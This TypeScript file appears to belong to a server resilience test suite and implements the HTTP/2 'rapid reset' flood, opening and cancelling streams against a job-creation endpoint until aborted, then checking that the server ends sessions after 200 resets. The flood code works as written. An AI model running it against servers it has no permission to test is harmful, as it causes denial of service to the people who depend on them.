import http2 from "node:http2";
import type { Flood } from "../attack.ts";
import type { Target } from "../target.ts";
import { waits } from "../waits.ts";

const PATH = "/sluice.v1.JobsService/CreateJob";
/** Streams that one session may open and reset before it must be ended. */
const MOST_RESETS = 200;

async function resetAll(target: Target, signal: AbortSignal): Promise<number> {
  const session = http2.connect(target.url);
  session.on("error", () => {});
  await new Promise((resolve) => session.once("connect", resolve).once("close", resolve));
  let resets = 0;
  while (!session.closed && !session.destroyed && !signal.aborted && resets < MOST_RESETS * 2) {
    for (let i = 0; i < 20 && !session.closed && !session.destroyed; i++) {
      const stream = session.request({
        ":method": "POST",
        ":path": PATH,
        "content-type": "application/json",
      });
      stream.on("error", () => {});
      stream.close(http2.constants.NGHTTP2_CANCEL);
      resets++;
    }
    // The server has seen them all when it answers.
    if (!session.closed && !session.destroyed)
      await new Promise((resolve) => session.ping(resolve) || resolve(null));
  }
  session.destroy();
  return resets;
}

export const rapidReset: Flood = {
  name: "Rapid reset",
  async run(target, signal) {
    const counts: number[] = [];
    while (!signal.aborted) {
      counts.push(await resetAll(target, signal));
      await waits(100, signal);
    }
    const most = Math.max(...counts);
    return [
      {
        what: `${counts.length} sessions that only open and reset`,
        came: `ended after ${most} resets at most`,
        held: counts.length > 0 && most <= MOST_RESETS,
      },
    ];
  },
};
